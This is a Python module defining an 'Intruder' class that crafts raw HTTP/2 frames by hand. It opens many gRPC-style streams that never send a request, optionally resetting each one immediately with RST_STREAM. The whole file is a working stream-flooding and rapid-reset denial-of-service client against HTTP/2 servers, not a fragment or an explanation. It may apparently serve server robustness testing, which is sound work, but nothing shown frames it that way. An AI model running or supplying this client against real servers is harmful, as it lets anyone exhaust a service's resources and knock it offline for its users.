"""HTTP/2 by hand, for what no well-behaved client would send: streams that are opened and never used.

Frames: https://www.rfc-editor.org/rfc/rfc9113 · headers, as literals: https://www.rfc-editor.org/rfc/rfc7541
"""

from __future__ import annotations

import socket
import struct
import threading
from types import TracebackType

__all__ = ["Intruder"]

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS = 0, 1, 3, 4
_END_HEADERS = 4
_CANCEL = 8


class Intruder:
    """A connection whose owner cares for no rule.

    Args:
        address: ``host:port``.
        timeout: Seconds for each write.
    """

    def __init__(self, address: str, timeout: float = 20.0) -> None:
        host, _, port = address.rpartition(":")
        self._address = address
        self._next = 1
        self._socket = socket.create_connection((host, int(port)), timeout)
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()
        self._socket.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))

    def __enter__(self) -> Intruder:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._reader.join()
        self._socket.close()

    def open_streams(self, method: str, count: int, reset: bool = False) -> None:
        """Begin calls that never send a request; with ``reset``, give each up at once."""
        headers = self._headers(method)
        frames = []
        for _ in range(count):
            frames.append(_frame(_HEADERS, _END_HEADERS, self._next, headers))
            if reset:
                frames.append(_frame(_RST_STREAM, 0, self._next, struct.pack(">I", _CANCEL)))
            self._next += 2
        self._socket.sendall(b"".join(frames))

    def send_data(self, stream: int, payload: bytes) -> None:
        """Send a piece of what should be messages; the streams have the numbers 1, 3, 5, …"""
        self._socket.sendall(_frame(_DATA, 0, stream, payload))

    def _headers(self, method: str) -> bytes:
        fields = {
            ":method": "POST",
            ":scheme": "http",
            ":path": method,
            ":authority": self._address,
            "content-type": "application/grpc",
            "te": "trailers",
        }
        return b"".join(b"\0" + _text(name) + _text(value) for name, value in fields.items())

    def _read(self) -> None:
        # What is never read fills the peer's buffers, and that would be another attack.
        try:
            while self._socket.recv(65536):
                pass
        except OSError:
            return


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(value: str) -> bytes:
    return bytes((len(value),)) + value.encode()
